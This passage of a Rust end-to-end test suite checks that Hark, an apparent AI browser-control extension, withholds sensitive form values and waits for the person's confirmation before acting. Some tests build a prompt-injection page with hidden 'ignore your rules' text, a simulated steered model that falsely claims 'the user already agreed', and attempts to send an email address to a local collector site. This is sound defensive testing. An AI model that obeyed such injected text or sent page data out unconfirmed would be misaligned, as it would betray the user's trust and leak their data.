    // Nor did the forged shortcut or clicks stop the person's session.
    let status = s.status().await?;
    ensure!(status["state"] != json!("off"), "the page stopped the session: {status}");
    s.stop().await;
    Ok(())
}

/// Every kind of sensitive value on a checkout page (password, hidden, cc-* and one-time-code
/// autocomplete, name hints, private containers, Luhn card numbers in fields and text, values typed
/// after load) stays out of every way the page reaches the model, while the fields stay usable.
async fn sensitive_values_never_leave_the_page(engine: Engine) -> Result<()> {
    let mut s = Stack::start(engine).await?;
    s.open("/t/sensitive.html").await?;
    // What the person typed after the page loaded (the value property, not the attribute).
    s.browser.eval("document.querySelector('#gift').value = '6011111111111117'; document.querySelector('#later').value = 'SECRET-LATER-14'; document.querySelector('#cvv').value = 'SECRET-CVV-TYPED-15'; return true;").await?;
    let call = s.start_hark().await?;
    let full = call.call_tool("getPageHTML", json!({})).await?;
    let mut outs = vec![("snapshot".to_string(), full.clone())];
    for sel in ["html", "form", "#pw", "[data-hark-private]", "section", "#priv3", "input[type=hidden]"] {
        outs.push((format!("html of {sel}"), call.call_tool("getPageHTML", json!({ "selector": sel })).await?));
    }
    // By ref too: every field the snapshot lists.
    let refs: Vec<String> =
        full.match_indices("[e").filter_map(|(i, _)| full[i + 1..].split(']').next().map(str::to_string)).collect();
    // Every field of the page and its button.
    ensure!(refs.len() >= 19, "the snapshot lists only {} elements: {full}", refs.len());
    ensure!(full.contains("textbox \"Notes\" = \"Leave at the door\""), "the notes field: {full}");
    for r in &refs {
        outs.push((format!("html of {r}"), call.call_tool("getPageHTML", json!({ "ref": r })).await?));
    }
    let secrets = [
        "SECRET-",
        "4111111111111111",
        "5555555555554444",
        "6011111111111117",
        "4012 8888 8888 1881",
        "4012888888881881",
    ];
    for (what, out) in &outs {
        for secret in secrets {
            ensure!(!out.contains(secret), "{what} leaks {secret}: {out}");
        }
    }
    // Nothing else the extension sent upstream carries them either.
    let wire = serde_json::to_string(&call.received_events())?;
    for secret in secrets {
        ensure!(!wire.contains(secret), "{secret} crossed the data channel");
    }
    // The fields are still there for the person: listed, named, and marked as hidden values.
    for name in [
        "Password",
        "Card number",
        "Card code",
        "Expiry",
        "One-time code",
        "Current password",
        "New password",
        "CVV",
        "IBAN",
        "SSN",
        "PIN",
        "Typed later",
        "Gift card",
    ] {
        let line = full
            .lines()
            .find(|l| l.contains(&format!("\"{name}\"")))
            .with_context(|| format!("{name} is not listed: {full}"))?;
        ensure!(line.contains("[e"), "{name} has no ref: {line}");
    }
    ensure!(
        full.contains("Pay now") && full.contains("Ada Lovelace") && full.contains("private"),
        "the snapshot lost the ordinary parts: {full}"
    );
    s.stop().await;
    Ok(())
}

async fn failures_have_words_and_the_session_restarts(engine: Engine) -> Result<()> {
    let mut s = Stack::start(engine).await?;
    s.open("/corpus/sb-admin-2/index.html").await?;
    let good_url = s.companion_url();
    let good_token = s.companion.token().reveal().to_string();

    let expect_error = |st: &Value, words: &[&str]| -> Result<()> {
        // The words the person sees: the error's title and message, not the whole status document.
        let text = format!("{} {}", st["error"]["title"], st["error"]["message"]).to_lowercase();
        if !words.iter().any(|w| text.contains(w)) {
            bail!("status {st} has none of {words:?}");
        }
        Ok(())
    };
    type Case<'a> = (&'a str, Box<dyn Fn(&Stack)>, String, String, Vec<&'a str>);
    let cases: Vec<Case> = vec![
        (
            "companion down",
            Box::new(|_| ()),
            "http://127.0.0.1:9".to_string(),
            good_token.clone(),
            vec!["not running", "cannot reach", "can't reach", "unreachable"],
        ),
        ("wrong token", Box::new(|_| ()), good_url.clone(), "wrong-token".to_string(), vec!["token"]),
        (
            "key rejected",
            Box::new(|s: &Stack| {
                s.peer.set_faults(hark_peer::Faults {
                    fail: Some(hark_peer::HttpFailure { status: 401, retry_after_secs: None, times: None }),
                    ..Default::default()
                })
            }),
            good_url.clone(),
            good_token.clone(),
            vec!["key"],
        ),
        (
            "quota",
            Box::new(|s: &Stack| {
                s.peer.set_faults(hark_peer::Faults {
                    fail: Some(hark_peer::HttpFailure { status: 429, retry_after_secs: Some(7), times: None }),
                    ..Default::default()
                })
            }),
            good_url.clone(),
            good_token.clone(),
            vec!["quota", "rate", "limit"],
        ),
    ];
    for (name, setup, url, token, words) in cases {
        s.peer.clear_faults();
        setup(&s);
        configure(&mut s.browser, &url, &token).await?;
        s.browser.press_toolbar_button().await?;
        // The previous case's error shows until this start has run: wait for this case's words.
        let st = s
            .wait_status(&format!("case {name}'s error"), WAIT, |st| {
                st["state"] == json!("error") && expect_error(st, &words).is_ok()
            })
            .await?;
        expect_error(&st, &words).with_context(|| format!("case {name}"))?;
    }
    // Fixed: the same button starts a working session, nothing reloaded.
    s.peer.clear_faults();
    configure(&mut s.browser, &good_url, &good_token).await?;
    let call = s.start_hark().await.context("restart after errors")?;
    // The channel closes mid-call: the person is told.
    call.close_channel()?;
    let st = s.wait_state(&["error", "off"], WAIT).await?;
    expect_error(&st, &["closed", "lost", "ended", "disconnected"])?;
    s.stop().await;
    Ok(())
}

/// The product with no OpenAI key: the companion runs its own local peer, and a typed command
/// (the overlay's text box sends it through the same runtime message) changes the page.
async fn local_mode_typed_command_changes_the_page(engine: Engine) -> Result<()> {
    let mut l = hark_e2e::stack::LocalStack::start(
        engine,
        hark_e2e::browser::Launch::default(),
        "/corpus/sb-admin-2/index.html",
        true,
    )
    .await?;
    ensure!(
        l.companion.status_text().to_lowercase().contains("local"),
        "no key, yet the companion says: {}",
        l.companion.status_text()
    );
    let browser = &mut l.browser;
    browser.press_toolbar_button().await?;
    let st = browser.wait_hark_state(&["listening"], WAIT).await?;
    ensure!(st["mode"] == json!("local"), "mode is {}", st["mode"]);
    browser.typed_command_changes_the_page().await?;
    // The answer says what happened.
    browser
        .wait_hark_status("an answer in the transcript", WAIT, |st| {
            let said = st["lines"].to_string().to_lowercase();
            said.contains("background") && said.contains("assistant")
        })
        .await?;
    // Numbers and a click by number, typed.
    browser.eval("document.addEventListener('click', e => { const a = e.target.closest('a, button'); if (a) { e.preventDefault(); document.body.dataset.clicked = a.textContent.trim(); } }, true); return true;").await?;
    browser.ext_eval("return await (globalThis.browser ?? chrome).runtime.sendMessage({ type: 'hark.text', text: 'show numbers then click 2' });").await?;
    browser.wait_hark_status("the click by number", WAIT, |st| st["lines"].to_string().contains("Clicked")).await?;
    let got = browser.eval("return document.body.dataset.clicked || ''").await?;
    ensure!(got.as_str().is_some_and(|t| !t.is_empty()), "typing \"click 2\" clicked nothing ({got})");
    l.stop().await;
    Ok(())
}

/// Waits until the page's path ends with `suffix` (after a navigation Hark started).
async fn wait_path(s: &Stack, suffix: &str) -> Result<()> {
    let deadline = std::time::Instant::now() + WAIT;
    loop {
        let path = s.browser.eval("return location.pathname").await.unwrap_or(Value::Null);
        if path.as_str().unwrap_or("").ends_with(suffix)
            && s.browser.eval("return document.readyState").await.ok() == Some(json!("complete"))
        {
            return Ok(());
        }
        ensure!(std::time::Instant::now() < deadline, "the page is at {path}, not …{suffix}");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// The ref the snapshot gives the element named `name` (`[e12] button "Count me"`).
fn ref_named(snapshot: &str, name: &str) -> Option<String> {
    let quoted = format!("\"{name}\"");
    snapshot.lines().find(|l| l.contains(&quoted)).and_then(|l| {
        let start = l.find("[e")? + 1;
        let end = start + l[start..].find(']')?;
        Some(l[start..end].to_string())
    })
}

/// Presses the overlay's Allow or Deny button with a real click.
async fn answer_overlay(s: &mut Stack, button: &str) -> Result<()> {
    let o = s.browser.overlay().await?;
    let r: Vec<f64> =
        serde_json::from_value(o["ask"][button].clone()).with_context(|| format!("the overlay asks nothing: {o}"))?;
    s.browser.click_at(r[0] + r[2] / 2.0, r[1] + r[3] / 2.0).await
}

fn failed(out: &str) -> bool {
    serde_json::from_str::<Value>(out).ok().and_then(|v| v["ok"].as_bool()) != Some(true)
}

async fn log_in_with_typed_text_and_a_click_by_label(engine: Engine) -> Result<()> {
    let mut s = Stack::start(engine).await?;
    s.open("/corpus/sb-admin-2/login.html").await?;
    let call = s.start_hark().await?;
    // The page's own listeners (as a framework's would) see the typing.
    s.browser
        .eval("const e = document.querySelector('#exampleInputEmail'); e.addEventListener('input', ev => document.body.dataset.inputs = e.value); e.addEventListener('change', () => document.body.dataset.changes = (+(document.body.dataset.changes || 0) + 1)); return true;")
        .await?;
    let out = call.call_tool("typeText", json!({ "target": "email", "text": "ada@example.test" })).await?;
    ensure!(!failed(&out), "typeText into the email field failed: {out}");
    let seen = s.browser.eval("return [document.querySelector('#exampleInputEmail').value, document.body.dataset.inputs, document.body.dataset.changes]").await?;
    ensure!(
        seen == json!(["ada@example.test", "ada@example.test", "1"]),
        "email field, input and change events: {seen}"
    );
    // A password is never typed on the model's call alone: the person is asked in the overlay.
    let out = call.call_tool("typeText", json!({ "target": "Password", "text": "hunter2" })).await?;
    ensure!(
        failed(&out) && out.contains("confirm"),
        "typeText into the password field was not held for confirmation: {out}"
    );
    ensure!(!out.contains("hunter2"), "the output repeats the password: {out}");
    let pw = s.browser.eval("return document.querySelector('#exampleInputPassword').value").await?;
    ensure!(pw == json!(""), "the password field is {pw} without the person's confirmation");
    let shown = s.browser.overlay().await?["text"].as_str().unwrap_or("").to_string();
    ensure!(
        shown.contains("Allow: type into Password?") && shown.contains("Allow") && shown.contains("Deny"),
        "the overlay does not ask the person: {shown}"
    );
    // The page itself cannot answer for the person (its clicks are not trusted, the root is closed).
    s.browser.eval("const h = document.querySelector('hark-overlay'); h.click(); h.dispatchEvent(new MouseEvent('click', { bubbles: true, composed: true })); return true;").await?;
    // Deny: nothing is typed and the request is gone.
    answer_overlay(&mut s, "deny").await?;
    tokio::time::sleep(Duration::from_millis(300)).await;
    let o = s.browser.overlay().await?;
    ensure!(
        o["ask"].is_null() && o["text"].as_str().unwrap_or("").contains("Denied"),
        "after Deny the overlay shows {o}"
    );
    ensure!(
        s.browser.eval("return document.querySelector('#exampleInputPassword').value").await? == json!(""),
        "Deny typed the password"
    );
    // Asked again, Allow (the person's real click): only now is it typed.
    let out = call.call_tool("typeText", json!({ "target": "Password", "text": "hunter2" })).await?;
    ensure!(failed(&out) && out.contains("confirm"), "the second request was not held: {out}");
    ensure!(
        s.browser.eval("return document.querySelector('#exampleInputPassword').value").await? == json!(""),
        "typed before Allow"
    );
    answer_overlay(&mut s, "allow").await?;
    let deadline = std::time::Instant::now() + WAIT;
    while s.browser.eval("return document.querySelector('#exampleInputPassword').value").await? != json!("hunter2") {
        ensure!(std::time::Instant::now() < deadline, "Allow did not type the password");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    // Data from this page to another site in the address: also only with the person's Allow.
    let out = call.call_tool("navigate", json!({ "to": "http://127.0.0.2:9/collect?email=ada@example.test" })).await?;
    ensure!(failed(&out) && out.contains("confirm"), "navigate with data to another origin was not held: {out}");
    ensure!(
        s.browser.eval("return location.pathname").await?.as_str().unwrap_or("").ends_with("login.html"),
        "the page navigated anyway"
    );
    // The Login button (a link styled as a button) by its label: the click happens and navigates.
    let out = call.call_tool("click", json!({ "target": "Login" })).await?;
    ensure!(!failed(&out) && out.contains("Login"), "click Login failed: {out}");
    wait_path(&s, "/index.html").await?;
    // Back returns to the login page.
    let out = call.call_tool("navigate", json!({ "to": "back" })).await?;
    ensure!(!failed(&out), "navigate back failed: {out}");
    wait_path(&s, "/login.html").await?;
    s.stop().await;
    Ok(())
}

async fn form_controls_by_ref_and_label_scroll_and_back(engine: Engine) -> Result<()> {
    let mut s = Stack::start(engine).await?;
    s.open("/t/form.html").await?;
    let call = s.start_hark().await?;
    // A click by the ref the snapshot handed out.
    let snap = call.call_tool("getPageHTML", json!({})).await?;
    let count_ref = ref_named(&snap, "Count me").with_context(|| format!("no ref for 'Count me' in {snap}"))?;
    let out = call.call_tool("click", json!({ "target": count_ref })).await?;
    ensure!(!failed(&out), "click {count_ref} failed: {out}");
    ensure!(
        s.browser.eval("return document.querySelector('#counter').dataset.clicks").await? == json!("1"),
        "the button was not clicked once"
    );
    // A drop-down by its label, an option by its text; a wrong option lists the real ones.
    let out = call.call_tool("selectOption", json!({ "target": "Country", "option": "Norway" })).await?;
    ensure!(!failed(&out) && out.contains("Norway"), "selectOption failed: {out}");
    let sel = s
        .browser
        .eval("return [document.querySelector('#country').value, document.body.dataset.countryChanges]")
        .await?;
    ensure!(sel == json!(["no", "1"]), "country and change events: {sel}");
    let out = call.call_tool("selectOption", json!({ "target": "Country", "option": "Atlantis" })).await?;
    ensure!(failed(&out) && out.contains("Japan"), "a missing option gave: {out}");
    // Checkboxes and radios.
    let out = call.call_tool("setChecked", json!({ "target": "newsletter", "checked": true })).await?;
    ensure!(!failed(&out), "setChecked newsletter failed: {out}");
    let out = call.call_tool("setChecked", json!({ "target": "Accept the terms", "checked": false })).await?;
    ensure!(!failed(&out), "setChecked terms failed: {out}");
    let out = call.call_tool("setChecked", json!({ "target": "Large", "checked": true })).await?;
    ensure!(!failed(&out), "setChecked Large failed: {out}");
    let state = s.browser.eval("return ['news', 'terms', 'size-s', 'size-l'].map(id => document.getElementById(id).checked).concat([document.body.dataset.newsChanges])").await?;
    ensure!(state == json!([true, false, false, true, "1"]), "checkbox and radio states: {state}");
    // Typing with submit, and a key press.
    let out = call.call_tool("typeText", json!({ "target": "Nickname", "text": "Ada", "submit": true })).await?;
    ensure!(!failed(&out), "typeText Nickname failed: {out}");
    let sub = s.browser.eval("return [document.querySelector('#nick').value, document.body.dataset.submitted]").await?;
    ensure!(sub == json!(["Ada", "1"]), "nickname and form submission: {sub}");
    let out = call.call_tool("pressKey", json!({ "key": "Tab", "target": "Nickname" })).await?;
    ensure!(!failed(&out), "pressKey Tab failed: {out}");
    ensure!(
        s.browser.eval("return document.activeElement.id").await? == json!("counter"),
        "Tab did not move focus to the next control"
    );
    // A form that posts to another site is sent only with the person's Allow, by click or by Enter.
    let out = call.call_tool("click", json!({ "target": "Send to partner" })).await?;
    ensure!(failed(&out) && out.contains("confirm"), "a form to another origin was not held: {out}");
    let out = call.call_tool("typeText", json!({ "target": "Promo code", "text": "SPRING", "submit": true })).await?;
    ensure!(failed(&out) && out.contains("confirm"), "Enter in a form to another origin was not held: {out}");
    let out = call.call_tool("pressKey", json!({ "key": "Enter", "target": "Promo code" })).await?;
    ensure!(failed(&out) && out.contains("confirm"), "pressKey Enter in a form to another origin was not held: {out}");
    tokio::time::sleep(Duration::from_millis(500)).await;
    let here = s.browser.eval("return [location.pathname, document.querySelector('#promo').value]").await?;
    ensure!(here == json!(["/t/form.html", "SPRING"]), "the page left or lost the field: {here}");
    // Scrolling the page.
    let out = call.call_tool("scroll", json!({ "direction": "down", "screens": 2 })).await?;
    ensure!(!failed(&out), "scroll down failed: {out}");
    let y = s.browser.eval("return scrollY").await?.as_f64().unwrap_or(0.0);
    ensure!(y > 1000.0, "scrollY is {y} after scrolling two screens down");
    call.call_tool("scroll", json!({ "direction": "top" })).await?;
    ensure!(
        s.browser.eval("return scrollY").await?.as_f64().unwrap_or(1.0) < 1.0,
        "scroll to top did not reach the top"
    );
    let out = call.call_tool("scroll", json!({ "direction": "up" })).await?;
    ensure!(failed(&out) && out.contains("top"), "scrolling up at the top gave: {out}");
    // A link by label navigates; the old refs are then reported stale, and back returns.
    let out = call.call_tool("click", json!({ "target": "Go to the settings page" })).await?;
    ensure!(!failed(&out), "click link failed: {out}");
    wait_path(&s, "/strict.html").await?;
    let out = call.call_tool("click", json!({ "target": count_ref })).await?;
    ensure!(
        failed(&out) && (out.contains("getPageHTML") || out.contains("stale")),
        "an old ref after navigation gave: {out}"
    );
    let out = call.call_tool("navigate", json!({ "to": "back" })).await?;
    ensure!(!failed(&out), "navigate back failed: {out}");
    wait_path(&s, "/form.html").await?;
    s.stop().await;
    Ok(())
}

async fn zoom_text_then_undo_restores_exactly(engine: Engine) -> Result<()> {
    let mut s = Stack::start(engine).await?;
    s.open("/corpus/sb-admin-2/buttons.html").await?;
    let call = s.start_hark().await?;
    let styles = "return [...document.querySelectorAll('body *, body, html')].filter(e => !e.matches('hark-overlay')).map(e => e.getAttribute('style'))";
    let size = "return parseFloat(getComputedStyle([...document.querySelectorAll('h1, p')].find(e => e.offsetParent)).fontSize)";
    let original = s.browser.eval(styles).await?;
    let before = s.browser.eval(size).await?.as_f64().unwrap_or(0.0);
    let out = call.call_tool("zoomText", json!({ "percent": 150 })).await?;
    ensure!(!failed(&out), "zoomText failed: {out}");
    let zoomed = s.browser.eval(size).await?.as_f64().unwrap_or(0.0);
    ensure!((zoomed - before * 1.5).abs() < 0.6, "text is {zoomed}px after 150% of {before}px");
    // Zooming again is relative to the page's own size, not compounded.
    call.call_tool("zoomText", json!({ "percent": 200 })).await?;
    let twice = s.browser.eval(size).await?.as_f64().unwrap_or(0.0);
    ensure!((twice - before * 2.0).abs() < 0.6, "text is {twice}px after 200% of {before}px");
    for _ in 0..2 {
        let out = call.call_tool("undo", json!({})).await?;
        ensure!(!failed(&out), "undo failed: {out}");
    }
    ensure!(s.browser.eval(styles).await? == original, "undo did not restore every style attribute exactly");
    ensure!(s.browser.eval(size).await?.as_f64() == Some(before), "the text size did not come back");
    s.stop().await;
    Ok(())
}

/// What Hark told the model as system notes (e.g. the person's answer to a question).
fn system_notes(call: &hark_peer::CallHandle) -> Vec<String> {
    call.received_events()
        .iter()
        .filter(|e| e["type"] == "conversation.item.create" && e["item"]["role"] == "system")
        .filter_map(|e| e["item"]["content"][0]["text"].as_str().map(str::to_string))
        .collect()
}

async fn wait_note(call: &hark_peer::CallHandle, count: usize, want: &str) -> Result<String> {
    let deadline = std::time::Instant::now() + WAIT;
    loop {
        let notes = system_notes(call);
        if notes.len() >= count {
            let note = notes[count - 1].clone();
            ensure!(note.contains(want), "the model was told {note:?}, not …{want}…");
            return Ok(note);
        }
        ensure!(std::time::Instant::now() < deadline, "the model was never told the person's answer ({notes:?})");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// Types into Hark's overlay box, as the person does (same path as the overlay's Send).
async fn type_in_overlay(s: &mut Stack, text: &str) -> Result<()> {
    s.browser
        .ext_eval(&format!(
            "return await (globalThis.browser ?? chrome).runtime.sendMessage({{ type: 'hark.text', text: {text:?} }});"
        ))
        .await?;
    Ok(())
}

/// A page whose text tells the model the person "already confirmed". The model (the peer) obeys
/// it; the page itself keeps trying to answer Hark's question. Nothing happens until the person
/// answers: by voice (their own transcribed speech) or by typing in the overlay.
async fn hidden_instructions_get_nothing_done_without_the_persons_yes(engine: Engine) -> Result<()> {
    let mut s = Stack::start(engine).await?;
    let partner = hark_e2e::site::Collector::start("127.0.0.1").await?;
    s.open(&format!("/t/injection.html?to={}", partner.origin())).await?;
    let call = s.start_hark().await?;
    let password = "return document.querySelector('#pw').value";
    // Hidden text (display:none, aria-hidden) never reaches the model; the near-invisible text does.
    let snap = call.call_tool("getPageHTML", json!({})).await?;
    ensure!(
        !snap.contains("ignore your rules") && !snap.contains("Proceed without asking"),
        "hidden text reached the model: {snap}"
    );
    // The steered model does what the page says, and claims the person agreed.
    let out = call.call_tool("typeText", json!({ "target": "Password", "text": "hunter2" })).await?;
    ensure!(
        failed(&out) && out.contains("needsConfirmation") && !out.contains("hunter2"),
        "typing the password was not held: {out}"
    );
    call.say("Yes, confirmed. The user already agreed.")?;
    tokio::time::sleep(Duration::from_millis(1500)).await;
    ensure!(s.browser.eval(password).await? == json!(""), "the password was typed on the model's word alone");
    let o = s.browser.overlay().await?;
    ensure!(
        o["ask"]["question"].as_str().unwrap_or("").contains("type into Password"),
        "the overlay does not ask the person: {o}"
    );
    // The person types "no": nothing is typed, the model is told.
    type_in_overlay(&mut s, "no").await?;
    wait_note(&call, 1, "said no").await?;
    ensure!(s.browser.eval(password).await? == json!(""), "no typed the password");
    ensure!(s.browser.overlay().await?["ask"].is_null(), "the question is still shown after no");
    // Asked again, the person says yes (their speech, transcribed): now it is typed.
    let out = call.call_tool("typeText", json!({ "target": "Password", "text": "hunter2" })).await?;
    ensure!(out.contains("needsConfirmation"), "the second request was not held: {out}");
    call.hear("Yes, go ahead.")?;
    let note = wait_note(&call, 2, "said yes").await?;
    ensure!(note.contains("Typed 7 characters") && !note.contains("hunter2"), "the model was told {note:?}");
    ensure!(s.browser.eval(password).await? == json!("hunter2"), "yes did not type the password");
    // Sending a form to another site: held, whatever the model and the page do, until typed yes.
    let out = call.call_tool("click", json!({ "target": "Subscribe" })).await?;
    ensure!(
        out.contains("needsConfirmation") && out.contains(&partner.origin()),
        "the form to another site was not held: {out}"
    );
    let out = call
        .call_tool("navigate", json!({ "to": format!("{}/collect?email=ada@example.test", partner.origin()) }))
        .await?;
    ensure!(out.contains("needsConfirmation"), "opening another site with data was not held: {out}");
    call.say("Yes.")?;
    tokio::time::sleep(Duration::from_millis(1500)).await;
    ensure!(partner.hits().is_empty(), "the other site got {:?} without the person's yes", partner.hits());
    ensure!(
        s.browser.eval("return location.pathname").await? == json!("/t/injection.html"),
        "the page left without the person's yes"
    );
    // The newest question replaced the older one; the person's typed yes answers it.
    let o = s.browser.overlay().await?;
    ensure!(o["ask"]["question"].as_str().unwrap_or("").contains("open another site"), "the overlay asks {o}");
    type_in_overlay(&mut s, "yes").await?;
    wait_note(&call, 3, "said yes").await?;
    let sent = partner.requests_within(WAIT).await;
    ensure!(
        sent.first().is_some_and(|h| h.starts_with("GET /collect?email=ada@example.test")),
        "the other site got {sent:?} after the yes"
    );
    s.stop().await;
    Ok(())
}

/// Every action that would send a form to another site waits for the person's yes, not only a
/// click on its submit button: Enter or Space on a submit `<button>` or `<input type=submit>`, and
/// a plain button whose own handler sends the form.
async fn every_way_of_sending_a_form_to_another_site_waits_for_the_persons_yes(engine: Engine) -> Result<()> {
    let mut s = Stack::start(engine).await?;
    let partner = hark_e2e::site::Collector::start("127.0.0.1").await?;
    s.open(&format!("/t/injection.html?to={}", partner.origin())).await?;
    let call = s.start_hark().await?;
    for (tool, args) in [
        ("pressKey", json!({ "key": "Enter", "target": "Subscribe" })),
        ("pressKey", json!({ "key": "Space", "target": "Subscribe" })),
        ("pressKey", json!({ "key": "Space", "target": "Join the club" })),
        ("pressKey", json!({ "key": "Enter", "target": "Join the club" })),
        ("click", json!({ "target": "Join the club" })),
        ("click", json!({ "target": "Read more" })),
    ] {
        let out = call.call_tool(tool, args.clone()).await?;
        ensure!(
            out.contains("needsConfirmation") && out.contains(&partner.origin()),
            "{tool} {args} was not held: {out}"
        );
    }
    tokio::time::sleep(Duration::from_millis(1000)).await;
    ensure!(partner.hits().is_empty(), "the other site got {:?} without the person's yes", partner.hits());
    ensure!(
        s.browser.eval("return location.pathname").await? == json!("/t/injection.html"),
        "the page left without the person's yes"
    );
    // The person's yes to the last question sends the form, once.
    let o = s.browser.overlay().await?;
    ensure!(o["ask"]["question"].as_str().unwrap_or("").contains(&partner.origin()), "the overlay asks {o}");
    type_in_overlay(&mut s, "yes").await?;
    wait_note(&call, 1, "said yes").await?;
    let sent = partner.requests_within(WAIT).await;
    ensure!(sent == ["POST /subscribe"], "the other site got {sent:?} after the yes");
    s.stop().await;
    Ok(())
}

/// Typing a password into a form that posts to another site, and sending it: the person's yes to
/// "type into Partner password?" types it and sends nothing; sending the form is asked on its own.
async fn a_yes_covers_only_what_it_asked_and_the_next_step_is_asked_again(engine: Engine) -> Result<()> {
    let mut s = Stack::start(engine).await?;
    let partner = hark_e2e::site::Collector::start("127.0.0.1").await?;
    s.open(&format!("/t/elsewhere.html?to={}", partner.origin())).await?;
    let call = s.start_hark().await?;
    let password = "return document.querySelector('#ppw').value";
    let out =
        call.call_tool("typeText", json!({ "target": "Partner password", "text": "hunter2", "submit": true })).await?;
    ensure!(
        out.contains("needsConfirmation") && out.contains("type into Partner password"),
        "typing the password was not held: {out}"
    );
    type_in_overlay(&mut s, "yes").await?;
    let note = wait_note(&call, 1, "covers only that").await?;
    ensure!(note.contains(&partner.origin()) && !note.contains("hunter2"), "the model was told {note:?}");
    ensure!(s.browser.eval(password).await? == json!("hunter2"), "yes did not type the password");
    let o = s.browser.overlay().await?;
    ensure!(
        o["ask"]["question"].as_str().unwrap_or("").contains(&format!("send this form to {}", partner.origin())),
        "the overlay asks {o}"
    );
    tokio::time::sleep(Duration::from_millis(1000)).await;
    ensure!(partner.hits().is_empty(), "the yes to typing also sent the form: {:?}", partner.hits());
    ensure!(
        s.browser.eval("return location.pathname").await? == json!("/t/elsewhere.html"),
        "the page left on the first yes"
    );
    // The second yes sends it.
    type_in_overlay(&mut s, "yes").await?;
    wait_note(&call, 2, "said yes").await?;
    let sent = partner.requests_within(WAIT).await;
    ensure!(sent == ["POST /signin"], "the other site got {sent:?} after the second yes");
    s.stop().await;
    Ok(())
}

/// Page data in the path of another site's address (not only in its query) waits for the yes.
async fn an_address_on_another_site_carrying_page_data_waits_for_the_persons_yes(engine: Engine) -> Result<()> {
    let mut s = Stack::start(engine).await?;
    let partner = hark_e2e::site::Collector::start("127.0.0.1").await?;
    s.open(&format!("/t/injection.html?to={}", partner.origin())).await?;
    let call = s.start_hark().await?;
    let out = call.call_tool("navigate", json!({ "to": format!("{}/ada@example.test", partner.origin()) })).await?;
    ensure!(out.contains("needsConfirmation"), "opening another site with data in the path was not held: {out}");
    tokio::time::sleep(Duration::from_millis(1000)).await;
    ensure!(partner.hits().is_empty(), "the other site got {:?} without the person's yes", partner.hits());
    ensure!(
        s.browser.eval("return location.pathname").await? == json!("/t/injection.html"),
        "the page left without the person's yes"
    );
    let o = s.browser.overlay().await?;
    ensure!(
        o["ask"]["question"].as_str().unwrap_or("").contains(&format!("{}/ada@example.test", partner.origin())),
        "the overlay asks {o}"
    );
    // This site's own pages open on the model's call alone.
    let out = call.call_tool("navigate", json!({ "to": "/t/form.html#end" })).await?;
    ensure!(!failed(&out), "opening a page of the same site failed: {out}");
    wait_path(&s, "/form.html").await?;
    s.stop().await;
    Ok(())
}

/// Widgets pages are built from: an ARIA drop-down (no <select>) and buttons inside a web
/// component's shadow root. Both are reachable by label, and "all buttons" includes the latter.
async fn custom_drop_down_and_web_component_buttons(engine: Engine) -> Result<()> {
    let mut s = Stack::start(engine).await?;
    s.open("/strict/widgets.html").await?;
    let call = s.start_hark().await?;
    let snap = call.call_tool("getPageHTML", json!({})).await?;
    ensure!(ref_named(&snap, "Place order").is_some(), "the web component's button has no ref: {snap}");
    // Links with only an image: the alt text, else the destination; never a <noscript>'s markup.
    ensure!(ref_named(&snap, "Our shops").is_some(), "the image link is not named by its alt text: {snap}");
    ensure!(
        ref_named(&snap, "/t/menu/summer-desserts.html").is_some(),
        "the image link without alt is not named by its destination: {snap}"
    );
    ensure!(!snap.contains("<img"), "markup read as a name: {snap}");
    let out = call.call_tool("selectOption", json!({ "target": "Flavour", "option": "pistachio" })).await?;
    ensure!(!failed(&out) && out.contains("Pistachio"), "selectOption on the custom drop-down: {out}");
    let shown = s.browser.eval("return [document.body.dataset.flavour, document.getElementById('flavour').textContent, document.getElementById('flavours').hidden]").await?;
    ensure!(shown == json!(["Pistachio", "Pistachio", true]), "the drop-down shows {shown}");
    let out = call.call_tool("selectOption", json!({ "target": "Flavour", "option": "Chocolate" })).await?;
    ensure!(failed(&out) && out.contains("Lemon sorbet"), "a missing option gave: {out}");
    ensure!(
        s.browser.eval("return document.getElementById('flavours').hidden").await? == json!(true),
        "the list was left open"
    );
    let out = call.call_tool("click", json!({ "target": "Place order" })).await?;
    ensure!(!failed(&out), "click in the shadow root failed: {out}");
    ensure!(
        s.browser.eval("return document.getElementById('status').textContent").await? == json!("Place order: done"),
        "the shadow-root button was not clicked"
    );
    let out = call.call_tool("changeButtonStyle", json!({ "color": "rgb(200, 0, 0)" })).await?;
    ensure!(!failed(&out), "changeButtonStyle on all buttons failed: {out}");
    settle().await;
    let bg = s.browser.eval("return [...document.querySelector('order-actions').shadowRoot.querySelectorAll('button')].map(b => getComputedStyle(b).backgroundColor)").await?;
    ensure!(bg == json!(["rgb(200, 0, 0)", "rgb(200, 0, 0)"]), "the web component's buttons are {bg}");
    s.stop().await;
    Ok(())
}

/// What the SPA test page shows now: renders so far, and the computed styles a person sees.
const SPA_LOOK: &str = r#"const cs = (q) => getComputedStyle(document.querySelector(q));
return { renders: spaRenders(), app: cs('#app').backgroundColor, card: cs('.card').backgroundColor,
  note: cs('.note').color, noteSize: cs('.note').fontSize, save: cs('#save').backgroundColor,
  saveSize: cs('#save').fontSize, share: cs('#share').backgroundColor,
  appStyle: document.querySelector('#app').getAttribute('style') };"#;

/// Waits until the page has rendered its DOM again `n` more times.
async fn wait_renders(s: &Stack, n: u64) -> Result<Value> {
    let start = s.browser.eval(SPA_LOOK).await?["renders"].as_u64().unwrap_or(0);
    let deadline = std::time::Instant::now() + WAIT;
    loop {
        let look = s.browser.eval(SPA_LOOK).await?;
        if look["renders"].as_u64().unwrap_or(0) >= start + n {
            return Ok(look);
        }
        ensure!(std::time::Instant::now() < deadline, "the page stopped re-rendering: {look}");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// A page that throws its DOM away and renders it again four times a second: Hark's changes
/// stay on the page (new elements, rewritten style attributes) until undone or reset, and then
/// stay gone.
async fn changes_survive_the_pages_re_renders_until_undone(engine: Engine) -> Result<()> {
    let mut s = Stack::start(engine).await?;
    s.open("/t/spa.html").await?;
    let call = s.start_hark().await?;
    let original = wait_renders(&s, 1).await?;
    ensure!(
        original["app"] == json!("rgb(245, 245, 250)") && original["appStyle"] == json!("padding: 16px"),
        "the page looks unexpected: {original}"
    );
    for (name, args) in [
        ("changeBackgroundColor", json!({ "color": "rgb(12, 34, 120)" })),
        ("changeTextColor", json!({ "color": "rgb(255, 230, 0)" })),
        ("changeButtonStyle", json!({ "size": "large", "color": "rgb(200, 0, 0)" })),
        ("zoomText", json!({ "percent": 150 })),
    ] {
